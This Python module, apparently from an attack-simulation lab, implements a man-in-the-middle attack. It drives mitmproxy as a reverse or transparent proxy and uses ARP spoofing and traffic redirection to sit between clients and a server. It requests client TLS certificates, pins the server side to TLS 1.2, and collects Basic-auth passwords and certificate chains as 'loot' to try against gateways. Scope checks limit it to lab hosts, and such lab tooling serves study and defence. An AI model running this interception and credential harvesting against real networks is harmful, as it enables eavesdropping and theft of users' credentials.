"""The leak `interception`: mitmproxy answers in the bank's place and asks each client for its certificate.

mitmproxy runs unchanged, in its own environment, with `interception_addon`. On loopback it is a reverse proxy for each
server, between two relays that record both sides. On the lab's network it is a transparent proxy for the connections
that ARP spoofing brings here.
"""

import asyncio
import json
import os
import re
import shutil
import sys
import tempfile
from collections import Counter
from collections.abc import AsyncIterator, Callable, Coroutine, Iterable, Iterator, Sequence
from contextlib import AsyncExitStack, ExitStack, asynccontextmanager, contextmanager, suppress
from dataclasses import dataclass
from hashlib import sha256
from pathlib import Path
from typing import Any, Protocol

from attacker.call import FORWARD, LISTEN_INSTEAD, Call, LeakCommand, Parser, add_gateways
from attacker.campaign import Campaign
from attacker.collected import Sighting
from attacker.errors import AttackerError
from attacker.moves.make import Loot
from attacker.passwords import basic_password
from attacker.position.capabilities import drop_capabilities
from attacker.position.redirect import Redirect, between, redirected
from attacker.position.tcp_relay import Forward, TcpRelay
from attacker.position.watchdog import Watchdog
from attacker.scope import check_target, wait_for_hosts
from lab.address import Address
from lab.capture.writer import CaptureFile
from lab.catalogue.leaks import INTERCEPTION
from lab.events.log import Reporter
from lab.events.parts import INTERCEPTION_FILE, ONWARD_FILE
from lab.events.types import Intercepted, PositionLeft, PositionTaken, Trouble, WentOn
from lab.ports import HOST, held_ports
from lab.process import BadInput, whole_number

ADDON = Path(__file__).with_name("interception_addon.py")
PROGRAM = "mitmdump"
START_SECONDS = 30.0
STOP_SECONDS = 3.0
QUIET_SECONDS = 1.0
"""When there is loot for every gateway, the attacker waits this long for another client."""
MAX_LINE = 1 << 20
PROXY_PORT = 8080
VISITS = 2
"""How many visits of each client to each server to wait for on the network: clients use TLS 1.2 and 1.3 in turn."""

ANY = ""
Visits = Counter[tuple[str, Address]]
"""How often each client, by its IP address, visits each server; ANY is for all clients together."""


async def run(call: Call) -> None:
    """Intercepts on loopback or on the network, then tries what the clients handed over."""
    arguments, campaign = call.arguments, call.begin(INTERCEPTION)
    if call.watchdog:
        ports = [one.address.port for one in call.gateways() if one.address.host == arguments.server]
        if not (arguments.client and arguments.server and ports):
            raise BadInput("--arp needs each --client, and the --server with at least one --gateway")
        hosts = arguments.client, arguments.server
        await intercept_on_network(call.watchdog, *hosts, ports, campaign, call.reporter, call.folder)
        drop_capabilities()  # the attempts are ordinary TLS connections
    else:
        await intercept_on_loopback(call.forwards(), campaign, call.reporter, call.folder, arguments.visits)
    await campaign.use()


async def intercept_on_loopback(
    forwards: Sequence[Forward], campaign: Campaign, reporter: Reporter, folder: Path, visits: int | None = None
) -> None:
    """Answers in the servers' place until there is loot for every gateway and each server has had its `visits`; without
    `visits`, until no client connects.

    AttackerError if mitmproxy is missing or cannot start; OutOfScope for a server outside the lab.
    """
    with ExitStack() as stack:
        ports = held_ports(stack, len(forwards))
        files = [CaptureFile(folder / name) for name in (INTERCEPTION_FILE, ONWARD_FILE)]
        for file in files:
            stack.callback(file.close)
        before, beyond = TcpRelay(files[0].write), TcpRelay(files[1].write, server_side=True)
        try:
            await beyond.start(Forward(Address(HOST, 0), one.target) for one in forwards)
            await before.start(
                Forward(one.listen, Address(HOST, port)) for one, port in zip(forwards, ports, strict=True)
            )
            onward = [one.listen for one in beyond.forwards]
            modes = [
                f"--mode=reverse:https://{listen}@{HOST}:{port}" for listen, port in zip(onward, ports, strict=True)
            ]
            async with running_mitmproxy(modes, onward) as mitmproxy:
                places = zip(before.forwards, beyond.forwards, strict=True)
                detail = (f"{near.listen} in the place of {far.target}" for near, far in places)
                reporter.report(PositionTaken(INTERCEPTION.id, (*detail, f"mitmproxy {mitmproxy.version}")))
                awaited = Visits({(ANY, near.listen): visits or 0 for near in before.forwards})
                await _listen(BetweenRelays(mitmproxy, before, beyond), campaign, reporter, +awaited)
        finally:
            await before.close()
            await beyond.close()
    reporter.report(PositionLeft(INTERCEPTION.id, ()))


async def intercept_on_network(
    watchdog: Watchdog,
    clients: Sequence[str],
    server: str,
    ports: Sequence[int],
    campaign: Campaign,
    reporter: Reporter,
    folder: Path,
) -> None:
    """Spoofs ARP between each client and the server, and answers at the server's ports in its place until there is loot
    for every gateway and every client has visited every port in both versions.

    Needs CAP_NET_RAW for the position and CAP_NET_ADMIN for the redirection; mitmproxy has neither. AttackerError if a
    part fails; OutOfScope for a host outside the lab.
    """
    from attacker.position.arp import FIND_SECONDS, ArpPosition  # they need scapy, which loopback can do without

    await wait_for_hosts((*clients, server), FIND_SECONDS)
    targets = [check_target(server, port) for port in ports]
    positions = [ArpPosition(watchdog, client, server) for client in clients]
    host, interface, own = positions[0].server, positions[0].interface, positions[0].own_ip
    redirect = Redirect(tuple(one.client for one in positions), host, tuple(ports), PROXY_PORT)
    # Last in, first out: connections are redirected to mitmproxy only while it runs.
    async with AsyncExitStack() as stack:
        for name, hosts in ((INTERCEPTION_FILE, redirect.clients), (ONWARD_FILE, (own,))):
            stack.enter_context(_sniffed(interface, between(hosts, host, ports), folder / name, reporter))
        mode = f"--mode=transparent@{own}:{PROXY_PORT}"
        mitmproxy = await stack.enter_async_context(running_mitmproxy([mode], targets, drop_capabilities))
        stack.enter_context(redirected(redirect))
        for position in positions:
            await stack.enter_async_context(position)
        after_spoofing = (f"between {one.client} and {host}, after ARP spoofing" for one in positions)
        places = (f"in the place of {target}" for target in targets)
        detail = (*after_spoofing, *places, f"mitmproxy {mitmproxy.version}, a transparent proxy")
        reporter.report(PositionTaken(INTERCEPTION.id, detail))
        awaited = Visits({(one.client, target): VISITS for one in positions for target in targets})
        work = _listen(mitmproxy, campaign, reporter, awaited)
        await _while_held(work, (position.hold(asyncio.Event()) for position in positions))
    healed = dict.fromkeys(host for position in positions for host in position.healed)
    reporter.report(PositionLeft(INTERCEPTION.id, tuple(healed)))


@contextmanager
def _sniffed(interface: str, bpf_filter: str, path: Path, reporter: Reporter) -> Iterator[None]:
    """Writes the packets that match the filter to a capture file, as long as the block lasts."""
    from attacker.position.sniffer import Sniffer  # it needs scapy

    file = CaptureFile(path)
    try:
        sniffer = Sniffer(interface, bpf_filter)
        sniffer.watch(file.write)
        try:
            yield
        finally:
            sniffer.close()
            if sniffer.lost:
                lost = f"{path.name} lacks {sniffer.lost} of {sniffer.packets} packets: they came too fast"
                reporter.report(Trouble(lost))
    finally:
        file.close()


async def _while_held(work: Coroutine[Any, Any, None], holds: Iterable[Coroutine[Any, Any, None]]) -> None:
    """Works to the end; AttackerError when a position is lost."""
    tasks = [asyncio.create_task(one) for one in (work, *holds)]
    try:
        done, _ = await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
        for task in done:
            task.result()
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


class ConnectionReports(Protocol):
    """Reports about connections, from mitmproxy."""

    async def next(self) -> dict[str, Any] | None:
        """The next report; None after the last one."""
        ...

    def last_output(self) -> str:
        """The end of the other output."""
        ...


@dataclass(frozen=True)
class BetweenRelays:
    """mitmproxy's reports with the addresses at the relays' outer ends, which clients and servers know."""

    mitmproxy: ConnectionReports
    before: TcpRelay
    beyond: TcpRelay

    async def next(self) -> dict[str, Any] | None:
        told = await self.mitmproxy.next()
        if told is None or "peer" not in told:
            return told
        local, peer = Address(*told["local"]), Address(*told["peer"])
        if told["what"] in ("client", "request"):
            forward = next(one for one in self.before.forwards if one.target == local)
            clients = (one.client for one in self.before.passed(forward) if one.local == peer)
            return told | {"local": forward.listen, "peer": next(clients, peer)}
        forward = next(one for one in self.beyond.forwards if one.listen == peer)
        own_ends = (one.local for one in self.beyond.passed(forward) if one.client == local)
        return told | {"local": next(own_ends, local), "peer": forward.target}

    def last_output(self) -> str:
        return self.mitmproxy.last_output()


async def _listen(
    mitmproxy: ConnectionReports, campaign: Campaign, reporter: Reporter, awaited: Visits | None = None
) -> None:
    """Takes in mitmproxy's reports until there is loot for every gateway and the `awaited` visits have been made.

    If no visits are awaited, it ends when no client connects for a while.
    """
    left = Visits(awaited)
    complete = asyncio.create_task(_complete(campaign))
    try:
        while not (awaited and complete.done() and not left):
            try:
                async with asyncio.timeout(QUIET_SECONDS if complete.done() and not awaited else None):
                    told = await mitmproxy.next()
            except TimeoutError:
                return
            if told is None:
                raise AttackerError(f"mitmproxy ended: {mitmproxy.last_output()}")
            take(told, campaign, reporter)
            if told.get("what") == "client":
                server = Address(*told["local"])
                left -= Visits([(told["peer"][0], server), (ANY, server)])
            await asyncio.sleep(0)  # lets complete() see what was just taken in
    finally:
        complete.cancel()


async def _complete(campaign: Campaign) -> None:
    await campaign.complete()
    await campaign.password_found()


def take(told: dict[str, Any], campaign: Campaign, reporter: Reporter) -> None:
    """Takes in one report of mitmproxy's, and the certificate in it."""
    what = told.get("what")
    if what not in ("server", "client", "request"):
        return
    local, peer = str(Address(*told["local"])), str(Address(*told["peer"]))
    if what == "request":
        if found := basic_password(told["authorization"], local, told["tls"]):
            campaign.take_password(found)
    elif what == "server":
        reporter.report(WentOn(peer, local, told["tls"], _plain(told["error"])))
    else:
        chain = tuple(map(bytes.fromhex, told["chain"]))
        digest = sha256(chain[0]).hexdigest() if chain else ""
        reporter.report(Intercepted(peer, local, told["tls"], digest, told["error"]))
        if chain:
            campaign.take(Loot(chain, None), Sighting(client=peer, server=local, tls=told["tls"]))


def _plain(error: str) -> str:
    """OpenSSL's text, if mitmproxy passes on a printed list of errors."""
    words = re.findall(r"'([^']*)'\)", error)
    return "; ".join(words) if words else error


class Mitmproxy:
    """A running mitmdump with the lab's addon."""

    def __init__(self, process: asyncio.subprocess.Process) -> None:
        self.version = ""
        self._process = process
        self._output: list[str] = []
        assert process.stderr
        self._listening = asyncio.create_task(self._hear(process.stderr))

    async def next(self) -> dict[str, Any] | None:
        """The next report; None when mitmproxy has ended."""
        assert self._process.stdout
        while line := await self._process.stdout.readline():
            with suppress(ValueError):
                told = json.loads(line)
                if isinstance(told, dict):
                    return told
            self._output.append(line.decode("utf-8", "replace").strip())
        await self._listening
        return None

    def last_output(self) -> str:
        """The end of its other output."""
        return "; ".join(self._output[-3:]) or "it printed nothing"

    async def stop(self) -> None:
        """Ends it: closes its standard input, and kills it if that is not enough."""
        assert self._process.stdin
        self._process.stdin.close()
        try:
            async with asyncio.timeout(STOP_SECONDS):
                await self._process.wait()
        except TimeoutError:
            self._process.kill()
            await self._process.wait()
        self._listening.cancel()

    async def _hear(self, stream: asyncio.StreamReader) -> None:
        while line := await stream.readline():
            self._output = [*self._output[-20:], line.decode("utf-8", "replace").strip()]


@asynccontextmanager
async def running_mitmproxy(
    modes: Sequence[str], servers: Sequence[Address], prepare: Callable[[], None] | None = None
) -> AsyncIterator[Mitmproxy]:
    """mitmdump in these modes, as long as the block lasts; its CA is deleted afterwards.

    It connects to these `servers` only, whatever a client asks for. `prepare` runs in its process before the program.
    """
    program = find_program()
    with tempfile.TemporaryDirectory(prefix="mitmproxy-") as folder:
        process = await asyncio.create_subprocess_exec(
            program,
            *modes,
            *("--quiet", "--ssl-insecure", f"--scripts={ADDON}"),
            *("--set", "request_client_cert=true", "--set", f"confdir={folder}", "--set", "http2=false"),
            *("--set", f"lab_servers={','.join(map(str, servers))}"),
            # In TLS 1.3 a client's handshake ends before the server checks it, and mitmproxy would wait forever.
            *("--set", "tls_version_server_max=TLS1_2"),
            stdin=asyncio.subprocess.PIPE,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.PIPE,
            limit=MAX_LINE,
            preexec_fn=prepare,
            env={"PATH": os.environ.get("PATH", ""), "HOME": folder, "PYTHONUNBUFFERED": "1"},
        )
        it = Mitmproxy(process)
        try:
            try:
                async with asyncio.timeout(START_SECONDS):
                    while (told := await it.next()) and told.get("what") != "running":
                        pass
            except TimeoutError:
                raise AttackerError(f"{program} did not start within {START_SECONDS:g} s") from None
            if told is None:
                raise AttackerError(f"{program} ended: {it.last_output()}")
            it.version = str(told.get("version", ""))
            yield it
        finally:
            await it.stop()


def find_program() -> str:
    """mitmdump's path: in the environment for mitmproxy beside this one, or on PATH."""
    own = Path(sys.prefix) / "mitmproxy" / "bin" / PROGRAM
    found = str(own) if own.exists() else shutil.which(PROGRAM)
    if not found:
        raise AttackerError(f"{PROGRAM} is not on PATH; install mitmproxy, for example with `pipx install mitmproxy`")
    return found


def _add_arguments(parser: Parser) -> None:
    add_gateways(parser)
    positions = parser.add_mutually_exclusive_group(required=True)
    positions.add_argument("--forward", action="append", metavar=FORWARD, help=LISTEN_INSTEAD)
    tell = "come between each --client and the --server on the lab's network, and answer at its gateways"
    positions.add_argument("--arp", action="store_true", help=tell)
    parser.add_argument("--client", action="append", metavar="HOST", help="with --arp; repeatable")
    parser.add_argument("--server", metavar="HOST", help="with --arp")
    tell = "on loopback, wait for N connections to each server; without it, until no client connects"
    parser.add_argument("--visits", type=whole_number(1, 1000), metavar="N", help=tell)


COMMAND = LeakCommand(INTERCEPTION.how, _add_arguments, run, takes_network=lambda arguments: bool(arguments.arp))
